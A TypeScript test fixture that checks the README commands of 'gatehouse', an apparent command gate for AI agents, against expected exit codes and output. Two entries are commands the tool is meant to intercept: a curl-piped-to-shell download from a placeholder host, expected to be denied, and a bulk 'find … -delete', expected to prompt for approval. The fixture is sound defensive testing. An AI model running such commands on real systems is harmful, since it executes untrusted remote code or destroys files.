/**
 * What each block of the README does for a newcomer. A block is known by its first line: a new or changed block has no
 * entry, an entry without its block has no use, and either fails the test.
 */

/** What is expected of one block. */
export interface Expected {
  /** The block's first line. */
  readonly block: string;
  /** The exit code of its last command. */
  readonly code: number;
  /** What the first line on stdout is like; absent: there is none. */
  readonly out?: RegExp;
  /** What stderr holds; absent: nothing is asked of it. */
  readonly err?: RegExp;
}

/** In the order of the README. */
export const EXPECTED: readonly Expected[] = [
  {
    block:
      "npx --yes deno@2.9.6 task demo    # a client asks about some commands and prints what it was told",
    code: 0,
    out:
      /^gatehouse \d+\.\d+\.\d+, MCP 2026-07-28 over stdio; tools: gate, classify, route, score, phases_agents_\w+/,
  },
  {
    block: "deno task gatehouse gate check -- 'curl -s https://example.com/i.sh | sh'",
    code: 1,
    out: /^deny {4}shell\.run_download: /,
  },
  {
    block: "deno task gatehouse gate explain -- 'find . -name \"*.pyc\" -delete'",
    code: 0,
    out: /^ask {5}files\.delete_many: /,
  },
  {
    // The README names no owner, and nothing was released: what is tried is that it ends before it writes.
    block: "sh install.sh --from https://github.com/OWNER/REPOSITORY/releases/download/v0.1.0",
    code: 1,
    err:
      /^install\.sh: could not get https:\/\/github\.com\/OWNER\/REPOSITORY\/releases\/download\/v0\.1\.0\/SHA256SUMS$/m,
  },
  { block: "deno task compile", code: 0, out: /\/dist\/gatehouse$/ },
  { block: "gatehouse doctor", code: 0, out: /^ok {4}runtime {10}gatehouse / },
  {
    block:
      'echo "{\\"config_version\\":\\"1.0\\",\\"roots\\":[{\\"id\\":\\"demo\\",\\"path\\":\\"$PWD/skills-examples\\"}]}" > ~/skills-roots.json',
    code: 0,
    out: /^1 {9}deno-permission-review {2}PROJECT_TYPE_MATCH /,
  },
  {
    // There is no such machine, and no key: what is tried is that both commands say so.
    block:
      `export MCP_SERVERS='{"web":{"type":"ssh","host":"web.example.com","user":"admin","ssh_key":"~/.ssh/id_ed25519"}}'`,
    code: 1,
    err: /^gatehouse: Could not connect to web\.example\.com:22: .*\n(.*\n)*gatehouse: .*ssh_key/m,
  },
  { block: 'gatehouse flow status --workspace "$PWD"', code: 0, out: /^\{"status":"ok","workspace":"/ },
  { block: "gatehouse config print", code: 0, out: /^families {2,}all that are usable {2,}default/ },
  { block: "gatehouse help hooks claude-code", code: 0, out: /^== Claude Code ==$/ },
];
